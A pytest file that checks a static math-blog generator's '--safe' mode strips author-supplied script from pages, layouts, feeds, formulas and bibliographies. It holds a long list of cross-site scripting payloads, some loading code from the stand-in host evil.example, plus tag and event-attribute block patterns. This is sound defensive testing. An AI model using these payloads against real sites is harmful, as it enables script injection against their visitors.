"""`--safe`, word by word: what authors of documents cannot bring into a page, and what they still can."""

import json
import re
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

import pytest

from mathblog.text.harmless import harmless, runs_script
from mathblog.text.rendered import rendered_formulas
from support.site import Site

# every attack runs `zap()`, which stands nowhere else, where something of it comes through
ATTACKS = [
    "<script>zap()</script>",
    "<SCRIPT SRC=//evil.example/zap.js></SCRIPT>",
    "<script\n>zap()</script\n>",
    "a <script>zap()</script> b",
    "<scr<script>ipt>zap()</scr</script>ipt>",
    "<script>zap()",
    "<img src=x onerror=zap()>",
    '<img src="x" onerror="zap()" />',
    "<img/src=x/onerror=zap()>",
    "<img src=x oNeRrOr=zap()>",
    '<a href="javascript:zap()">a</a>',
    '<a href=" java\tscript:zap()">a</a>',
    '<a href="&#106;avascript&colon;zap()">a</a>',
    '<a href="java&#x0A;script:zap()">a</a>',
    '<a href="\x01javascript:zap()">a</a>',
    '<a href="vbscript:zap()">a</a>',
    '<a href="data:text/html,<script>zap()</script>">a</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD56YXAoKTwvc2NyaXB0Pg==">zap</a>',
    "[a](javascript:zap())",
    "[a](JaVaScRiPt:zap())",
    "[a](<java script:zap()>)",
    "[a](&#106;avascript:zap())",
    "[a](javascript&#58;zap())",
    "[a](data:text/html,zap())",
    "[a](vbscript:zap())",
    "![a](javascript:zap())",
    "[a][x]\n\n[x]: javascript:zap()",
    "<javascript:zap()>",
    '[a](x "a\\" onclick=zap() b=\\"")',
    '![" onerror="zap()](x.png)',
    "a\n{: onclick='zap()'}",
    "[a](b){: onmouseover='zap()' href='javascript:zap()'}",
    "# a {#x onclick=zap()}",
    "{::nomarkdown}<script>zap()</script><img src=x onerror=zap()>{:/nomarkdown}",
    "{::nomarkdown type=\"html\"}<a href='javascript:zap()'>a</a>{:/}",
    "<svg onload=zap()></svg>",
    "<svg><script>zap()</script></svg>",
    "<svg><a xlink:href='javascript:zap()'><text>a</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:zap() /></svg>",
    "<svg><foreignObject><img src=x onerror=zap()></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=zap()></style></mglyph></table></mtext></math>",
    "<math href='javascript:zap()'><mi>a</mi></math>",
    "<iframe src='javascript:zap()'></iframe>",
    "<iframe srcdoc='<script>zap()</script>'></iframe>",
    "<object data='javascript:zap()'></object>",
    "<embed src='javascript:zap()'>",
    "<form action='javascript:zap()'><button>a</button></form>",
    "<button formaction='javascript:zap()'>a</button>",
    "<input type=image src=x onerror=zap()>",
    "<isindex action=javascript:zap() type=image>",
    "<meta http-equiv=refresh content='0;url=javascript:zap()'>",
    "<base href='javascript:zap()//'>",
    "<link rel=stylesheet href='javascript:zap()'>",
    "<link rel=import href='data:text/html,zap()'>",
    "<style>@import 'javascript:zap()'; a { background: url(javascript:zap()) }</style>",
    "<p style=\"background: url('javascript:zap()')\">a</p>",
    "<p style='width: expression(zap())'>a</p>",
    "<p style='-moz-binding: url(//evil.example/zap#x)'>a</p>",
    "<p style='w\\69 dth: e\\78pression(zap())'>a</p>",
    "<details open ontoggle=zap()>a</details>",
    "<video><source onerror=zap()></video>",
    "<video poster='javascript:zap()' src=x></video>",
    "<audio src=x onerror=zap()></audio>",
    "<body onload=zap()>",
    "<marquee onstart=zap()>a</marquee>",
    "<table background='javascript:zap()'><tr><td>a</td></tr></table>",
    "<noscript><p title='</noscript><img src=x onerror=zap()>'></noscript>",
    "<textarea><img title='</textarea><img src=x onerror=zap()>'></textarea>",
    "<title><img title='</title><img src=x onerror=zap()>'></title>",
    "<template><script>zap()</script></template>",
    "<!--><img src=x onerror=zap()>-->",
    "<!-- --!><img src=x onerror=zap()> -->",
    "<![CDATA[<img src=x onerror=zap()>]]>",
    "<?xml-stylesheet href='javascript:zap()'?>",
    "<p data-x='1' x-on:click='zap()' @click='zap()' :href='zap()'>a</p>",
    '<p title="`><img src=x onerror=zap()>">a</p>',
    "<a href=x title='a' onclick=zap()>$x$</a>",
    "$\\href{javascript:zap()}{x}$",
    '$\\htmlData{onclick=zap()}{x}$ $\\htmlClass{a" onclick="zap()}{x}$ $\\htmlStyle{background:url(javascript:zap())}{x}$',
    "$\\includegraphics{javascript:zap()}$",
    "$\\text{<img src=x onerror=zap()>}$",
    '$$\\unknown{" onmouseover="zap()}$$',
    '```" onclick="zap()\nx\n```',
    "```html\n<script>zap()</script>\n```",
    "`<script>zap()</script>`",
    "{{ page.attack }}",
    "{{ '<script>zap()</script>' }}",
    "{% capture x %}<img src=x onerror=zap()>{% endcapture %}{{ x }}",
    "{% include attack.html %}",
    "{% include_relative _attack.html %}",
    "{{ site.data.attack.text }}",
    "*[a]: <script>zap()</script>\n\na",
    "a[^1]\n\n[^1]: <img src=x onerror=zap()>",
    "| a |\n|---|\n| <img src=x onerror=zap()> |",
    "<div markdown='1' onclick='zap()'>\n<img src=x onerror=zap()>\n</div>",
]  # fmt: skip
INCLUDES = Path(__file__).parents[2] / "themes" / "default" / "includes"
_THEMES = re.compile(r"<(script|button|style)\b.*?</\1>", re.DOTALL)
_SEARCH = re.compile(r'<form class="search" role="search" hidden(?: data-[a-z]+(?:="[^"<>]*")?)*>')
_VALUES = re.compile(r"\{\{.*?\}\}")
_LOOPS = re.compile(r"\{% for .*?%\}(.*?)\{% endfor %\}")
_EVENTS = re.compile(r"on[a-z]+|x-.*|[@:].*|srcdoc|formaction|action|background|xlink:.*|data-.*", re.IGNORECASE)
_FORBIDDEN = frozenset(
    [
        "script",
        "style",
        "iframe",
        "frame",
        "object",
        "embed",
        "applet",
        "form",
        "button",
        "base",
        "svg",
        "foreignobject",
        "animate",
        "template",
        "textarea",
    ]
)
LAYOUT = """
    <html><head><title>{{ page.title }}</title><meta name="description" content="{{ page.description }}">
    <script src="/own.js"></script></head>
    <body onload="own()"><h1 class="t" title='{{ page.title }}' lang="{{ page.lang }}">{{ page.title }}</h1>
    <a href="{{ page.link }}" title="{{ page.subtitle }}">{{ page.subtitle }}</a><img src="{{ page.image }}" alt="{{ page.alt }}">
    {{ content }}
    {{ page.attack }}{{ site.data.attack.text }}{{ page.excerpt }}{{ page.list }}{{ page.map }}
    {% for tag in page.tags %}<i title="{{ tag }}">{{ tag }}</i>{% endfor %}
    {% for tag in site.tags %}<b title="{{ tag[0] }}">{{ tag[0] }}</b>{% endfor %}
    {% for post in site.posts %}<a href="{{ post.link }}" title="{{ post.title }}">{{ post.title }}</a>{{ post.excerpt }}{% endfor %}
    {% for entry in page.map %}{{ entry[0] }}{{ entry[1] }}{% endfor %}
    {% for file in site.static_files %}<a href="{{ file.path }}">{{ file.name }}</a>{% endfor %}</body></html>
"""


class _Page(HTMLParser):
    """What of a page could run: its tags, attributes and addresses."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.inside = ""
        self.script = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))
        self.inside = tag

    def handle_endtag(self, tag: str) -> None:
        self.inside = self.inside if tag != self.inside else ""

    def handle_data(self, data: str) -> None:
        if self.inside == "script":
            self.script += data


def _what_runs(html: str, own: frozenset[str] = frozenset()) -> Iterator[str]:
    """Each thing in a page that could run and is not of its layout's."""
    page = _Page()
    page.feed(html)
    if "zap" in page.script and not page.script.lstrip().startswith("{"):
        yield f"script: {page.script}"
    for tag, attributes in page.tags:
        is_own = tag in own or attributes.get("type") == "application/ld+json" or attributes.get("onload") == "own()"
        is_katex = tag == "svg" and "xmlns" in attributes and "viewbox" in attributes
        if not is_own and not is_katex and tag in _FORBIDDEN:
            yield f"<{tag}>"
        for name, value in attributes.items():
            if "zap" in value and (_EVENTS.fullmatch(name) or name == "style"):
                yield f"{name}={value}"
            is_address = name in ("href", "src", "poster", "cite", "action")
            is_image = name == "content" and "image" in attributes.get("property", "")
            if (is_address or is_image) and runs_script(value):
                yield f"{name}={value}"
            if tag == "meta" and name == "http-equiv":
                yield "<meta http-equiv>"


def write_attacks(site: Site) -> Site:
    """Every attack in every place of documents of its own."""
    for number, attack in enumerate(ATTACKS):
        values = {
            "attack": attack,
            "description": attack,
            "subtitle": '" onmouseover="zap()',
            "lang": '"><img src=x onerror=zap()>',
            "link": "java\tscript:zap()",
            "image": "javascript:zap()",
            "alt": "' onerror='zap()",
            "canonical_url": "javascript:zap()",
            "redirect_to": "javascript:zap()",
            "author": {"name": attack, "url": "javascript:zap()"},
            "tags": ["<img src=x onerror=zap()>", '" onclick="zap()'],
            "list": [attack, {"x": attack}],
            "map": {attack: attack},
        }
        front = "".join(f"{key}: {json.dumps(value)}\n" for key, value in values.items())
        title = json.dumps(f"<script>zap()</script>' onclick='zap()' \" onclick=\"zap() {attack}"[:300])
        body = attack.replace("attack.html", f"attack{number}.html").replace("data.attack", f"data.attack{number}")
        post, page = "layout: post\n", "layout: page\n"
        site.write(
            {
                f"_posts/2018-10-06-markdown{number}.md": f"---\n{post}title: {title}\n{front}---\n{body}\n\n$x^2$\n",
                f"_posts/2018-10-07-excerpt{number}.md": f"---\n{post}excerpt: {json.dumps(attack)}\n{front}---\n{body}\n",
                f"page{number}.html": f"---\n{page}title: {title}\n{front}---\n<p>a</p>\n{body}\n",
                f"whole{number}.html": f"---\nlayout: null\n---\n<html><head><title>a</title></head><body>\n{body}\n</body></html>",
                f"_includes/attack{number}.html": attack,
                f"_attack{number}.html": attack,
                f"_data/attack{number}.json": json.dumps({"text": attack}),
            }
        )
    site.write({"files/' onclick='zap().txt": "", "files/<img src=x onerror=zap()>.txt": ""})
    return site.config("plugins: [jekyll-redirect-from, jekyll-seo-tag, jekyll-feed]\n")


def _pages(site: Site) -> dict[str, str]:
    pages = {path: content.decode() for path, content in site.files().items() if path.endswith(".html")}
    assert len(pages) > 3 * len(ATTACKS)  # those with broken Liquid aside
    return pages


def test_nothing_of_an_author_runs_in_the_theme(site: Site) -> None:
    write_attacks(site).build(safe=True, keep_going=True)
    ran = {path: list(_what_runs(_without_the_themes(html))) for path, html in _pages(site).items()}
    assert {path: found for path, found in ran.items() if found} == {}
    assert b'url="javascript:' not in site.files()["feed.xml"]


def _without_the_themes(html: str) -> str:
    """A page without the scripts, the buttons, the style and the form of the theme, each once."""
    for name in ("header", "head", "scripts"):
        for part in _THEMES.finditer((INCLUDES / f"{name}.html").read_text()):
            texts = _LOOPS.split(part[0])  # every second one stands in a loop
            written = [f"(?:{_written(text)})*" if number % 2 else _written(text) for number, text in enumerate(texts)]
            html = re.sub("".join(written), "", html, count=1)
    return _SEARCH.sub("", html, count=1)


def _written(template: str) -> str:
    """A pattern for what a part of a template writes."""
    return '[^<>"]*'.join(map(re.escape, _VALUES.split(template)))


def test_nothing_of_an_author_runs_in_layouts_of_the_site(site: Site) -> None:
    for name in ("default", "post", "page"):
        site.write({f"_layouts/{name}.html": LAYOUT})
    site.write({"_layouts/redirect.html": "x"})
    write_attacks(site).build(safe=True, keep_going=True)
    own = '<script src="/own.js"></script>'
    ran = {path: [found for found in _what_runs(html) if found != "<script>"] for path, html in _pages(site).items()}
    assert {path: found for path, found in ran.items() if found} == {}
    assert [path for path, html in _pages(site).items() if html.count("<script") != html.count(own)] == []


def test_the_attacks_are_attacks(site: Site) -> None:
    """Without `--safe` a good part of them runs: else the tests above would show nothing."""
    write_attacks(site).build(keep_going=True)
    ran = [path for path, html in _pages(site).items() if list(_what_runs(html))]
    assert len(ran) > 2 * len(ATTACKS)


HARMLESS = r"""
# Title *with* emphasis

A $x^2 < y$, [link](https://example.org "title"){:target="_blank" .out}, <kbd>Ctrl</kbd>, ![image](/a.png), `code < 1`,
a footnote[^1], <span style="color: red">red</span>, ~~gone~~ and H<sub>2</sub>O. <a href="mailto:a@example.org">mail</a>

$$
\begin{align} a &= \frac{1}{2} \label{one}\\ b &= \sqrt{c} \end{align}
$$

| a | b |
|---|:-:|
| $\alpha$ | 2 |

- [x] done
- [ ] open

<details><summary>more</summary><p>text $\overbrace{x}^{y}$</p></details>

```python
def f(x): return "<b>"
```

term
: definition

[^1]: A note with $\widehat{z}$.
"""


class _Tree(HTMLParser):
    """The parts of a page without what two ways to write the same may differ in."""

    def __init__(self) -> None:
        super().__init__()
        self.parts: list[object] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.parts.append((tag, sorted((name, re.sub(r"[\s;]", "", value or "")) for name, value in attrs)))

    def handle_data(self, data: str) -> None:
        if self.parts and isinstance(self.parts[-1], str):
            self.parts[-1] += data
        else:
            self.parts.append(data)


def _parts(html: str) -> list[object]:
    tree = _Tree()
    tree.feed(html)
    return tree.parts


def test_what_is_harmless_is_as_it_was(site: Site) -> None:
    site.post("2018-10-06-a", HARMLESS).write({"a.png": b""}).build().is_good()
    before = site.body("2018/10/06/a.html")
    site.build(safe=True).is_good()
    after = site.body("2018/10/06/a.html")
    assert _parts(after) == _parts(before)
    formulas = re.findall(r'<span class="katex">.*?</math>', before)
    assert len(formulas) > 4
    assert re.findall(r'<span class="katex">.*?</math>', after) == formulas  # byte for byte


def test_a_warning_says_what_was_taken_out(site: Site) -> None:
    site.post("2018-10-06-a", "fine\n\n$x$ <b onclick='a()'>b</b>\n\n<iframe src='b'></iframe>").build(safe=True)
    site.warns(
        """
        _posts/2018-10-06-a.md:5:8: warning: `--safe` takes `<iframe`, `onclick`, `src` out of this page [safe]
            5 | $x$ <b onclick='a()'>b</b>
              |        ^^^^^^^
              = without `--safe` it is published as it is
        """
    )


def test_the_configuration_and_the_command_line_ask_for_it(site: Site) -> None:
    site.post("2018-10-06-a", "<script>zap()</script>")
    for lines, flags, runs in (
        ("", [], True),
        ("", ["--safe"], False),
        ("safe: true\n", [], False),
        ("safe: false\n", ["--safe"], False),
    ):
        site.config(lines)
        assert site.run(*flags).exit_code == 0
        assert ("<script>zap()" in site.read("2018/10/06/a.html")) is runs


def test_no_text_is_taken_for_a_formula(site: Site) -> None:
    """What stands in for formulas while a text is cleaned holds a digest of the text: an author cannot know it."""
    site.post("2018-10-06-a", 'formulas-0- <b title="$x$-0-">b</b> $y$').build(safe=True).is_good()
    assert site.body("2018/10/06/a.html").count('<span class="katex">') == 1


def test_layouts_see_values_as_text(site: Site) -> None:
    site.write({"_layouts/post.html": "<p>{{ page.title }}|{{ page.title | escape }}|{{ page.x }}</p>"})
    site.post("2018-10-06-a", "a", 'layout: post\ntitle: Don\'t <b>\nx: "$a<b$"').build(safe=True).is_good()
    html = site.read("2018/10/06/a.html")
    assert "<p>Don&#39;t &lt;b&gt;|Don&#39;t &lt;b&gt;|" in html
    assert 'application/x-tex">a&lt;b<' in html


@pytest.mark.parametrize(
    ("address", "runs"),
    [
        ("javascript:a()", True),
        (" \tJAVA\nSCRIPT :a()", True),
        ("&#x6a;avascript:a()", True),
        ("javascript&colon;a()", True),
        ("\u200bjavascript:a()", True),
        ("data:text/html,x", True),
        ("data:image/svg+xml,x", True),
        ("data:image/png;base64,x", False),
        ("https://example.org/javascript:x", False),
        ("a/b?c=javascript:x", False),
        ("Theorem: data", False),
        ("The javascript: scheme", False),
    ],
)
def test_addresses_that_run(address: str, runs: object) -> None:
    assert runs_script(address) is runs
    assert (harmless(address) == "") is runs


INJECTED = (
    '"><script>zap()</script>',
    "<img src=x onerror=zap()>",
    '" onmouseover="zap()',
    "' onclick='zap()",
    "javascript:zap()",
)
MATHS = [
    "$$ x \\label{@} $$\n\n\\eqref{@} \\cref{@} [](#@) [@@]",
    "\\begin{align} x \\label{@} \\\\ y \\tag{@} \\end{align}\n\n\\ref{@}",
    "\\eqref{other:@} \\ref{@} @eq-@ [see @@, p. @]",
    "\\begin{theorem}[@]\\label{@}\nx\n\\end{theorem}\n\nBy \\cref{@} and \\nameref{@}.",
    '::: {.theorem #@ title="@" name="@"}\nx\n:::',
    "::: @\nx\n:::\n\n::: theorem @\nx\n:::",
    "> **Theorem (@).** x\n{: .theorem #@ title='@'}",
    "> [!NOTE] @\n> x\n\n> [!@]\n> x",
    "> [!theorem] @ {#@}\n> x",
    "# $x$ @ {#@}\n\n[](#@)",
    "$\\text{@} \\tag{@}$ $\\ce{@}$ $\\SI{1}{@}$ $\\num{@}$ $\\href{@}{x} \\url{@}$ $\\color{@}x$ $\\operatorname{@}$",
    "$\\newcommand{\\x}{\\text{@}} \\x$ $\\definecolor{a}{HTML}{@} \\color{a} x$ $\\htmlId{@}{x} \\htmlData{a=@}{x}$",
    '\\cite{a} \\cite[@]{b} @a [@a, @; @b] <d-cite key="@"></d-cite> {% cite a --prefix @ %} {% cite @ %}',
    "{% bibliography %}\n\n{% bibliography --query @*[title=@] --group_by title %}\n\n{% quote a %}@{% endquote %}",
    "{% reference a %} {% cite_details a --text @ %} {% details a %}",
]  # fmt: skip
FIELDS = ["author", "editor", "title", "journal", "booktitle", "year", "month", "pages", "publisher", "address", "url", "doi", "eprint", "note", "abstract", "edition", "series", "volume", "howpublished", "urldate", "pdf", "keywords"]  # fmt: skip


def write_maths(site: Site) -> Site:
    """The attacks where maths takes a text: names, titles, numbers, and entries of bibliographies."""
    forms = ("{@}", "{\\url{@}}", "{\\href{@}{@}}", "{$@$}", "{\\emph{@}}")
    entries = ["@article{a, title = {A}, author = {B, C}, year = 2000}\n@book{b, title = {B}, year = 2001}\n"]
    for number, attack in enumerate(INJECTED):
        for form in forms:
            fields = ", ".join(f"{name} = {form.replace('@', attack)}" for name in FIELDS)
            entries.append(f"@article{{e{len(entries)}, {fields}}}\n@misc{{m{len(entries)}, {fields}}}\n")
        for place, text in enumerate(MATHS):
            front = f"layout: post\ntitle: {json.dumps(f'{attack} ${attack}$')}\nmacros: {{x: {json.dumps(attack)}}}\n"
            body = text.replace("@@", "\0").replace("@", attack).replace("\0", "@")
            site.write({f"_posts/2018-10-06-maths{number}-{place}.md": f"---\n{front}---\n{body}\n"})
    site.write({
        "_bibliography/references.bib": "".join(entries),
        "_posts/2018-10-05-all.md": "---\nlayout: post\n---\n" + " ".join(f"[@e{it}]" for it in range(1, len(entries))),
        "list.html": "---\nlayout: page\n---\n{% for post in site.posts %}{{ post.content }}{{ post.excerpt }}{{ post.title }}{% endfor %}",
        "publications.md": "---\nlayout: publications\ntitle: x\n---\n",
    })  # fmt: skip
    return site.config("scholar: {style: apa}\ntheorems: true\n")


def test_nothing_of_an_author_runs_in_maths(site: Site) -> None:
    write_maths(site).build(safe=True, keep_going=True)
    pages = {path: content.decode() for path, content in site.files().items() if path.endswith(".html")}
    assert len(pages) > len(MATHS) * len(INJECTED)
    ran = {path: list(_what_runs(_without_the_themes(html))) for path, html in pages.items()}
    assert {path: found for path, found in ran.items() if found} == {}


def test_nothing_of_maths_runs_in_layouts_of_the_site(site: Site) -> None:
    for name in ("default", "post", "page"):
        site.write({f"_layouts/{name}.html": LAYOUT})
    site.write(
        {
            "_layouts/bib.html": '<p title="{{ entry.title }}">{{ entry.title }} {{ entry.note }} {{ entry.abstract }}</p>{{ reference }}'
        }
    )
    write_maths(site).config("scholar: {style: apa, bibliography_template: bib, details_layout: bib.html}\n").build(
        safe=True, keep_going=True
    )
    pages = {path: content.decode() for path, content in site.files().items() if path.endswith(".html")}
    ran = {path: [found for found in _what_runs(html) if found != "<script>"] for path, html in pages.items()}
    assert {path: found for path, found in ran.items() if found} == {}
    own = '<script src="/own.js"></script>'
    assert [path for path, html in pages.items() if html.count("<script") != html.count(own)] == []
    assert "zap()" in pages["2018/10/05/all.html"]  # the entries are there, as words


def test_formulas_of_other_documents_stay_in_pages(site: Site) -> None:
    formulas = "A $x^2$,\n\n$$ \\label{eq:a} \\int_0^1 y $$\n\n\\begin{align} a &= b \\\\ c &= d \\end{align}\n\n$\\nothing$ \\eqref{eq:a}"
    site.post("2018-10-06-a", f"{formulas}\n\n<script>zap()</script>")
    listing = "{% for post in site.posts %}{{ post.content }}<p>{{ post.excerpt }}</p>{% endfor %}"
    forged = (
        '<span class="katex"><img src=x onerror=zap()><annotation encoding="application/x-tex">x^2</annotation></span>'
    )
    for path in ("list.html", "marked.md", "bare.html"):
        front = "layout: null\n" if path == "bare.html" else ""
        site.write({path: f"---\n{front}---\n{listing}\n\n{forged} $z$\n"})
    site.build()
    published = {path: list(_formulas(site.read(path))) for path in ("list.html", "marked.html", "bare.html")}
    site.build(safe=True)
    for path, before in published.items():
        assert len(before) > 6
        after = [it for it in _formulas(site.read(path)) if "<img" not in it]
        assert after == [it for it in before if "<img" not in it]
        site.lacks(path, "zap()")
    assert "`<math`" not in site.report


def _formulas(html: str) -> Iterator[str]:
    return (html[span.start : span.end] for span in rendered_formulas(html))


def test_html_that_would_fill_the_memory_is_text(site: Site) -> None:
    """What is open before a paragraph is made anew in each that follows."""
    bold = "".join(f'<b id="b{number}">' for number in range(500))
    site.post("2026-01-15-x", f"<p>{bold}{'<p>x' * 5000}").build(safe=True)
    site.has("2026/01/15/x.html", "&lt;b id=").lacks("2026/01/15/x.html", "<b id=")
    assert (site.code, "`--safe` takes `<b`, `<p`" in site.report) == (0, True)
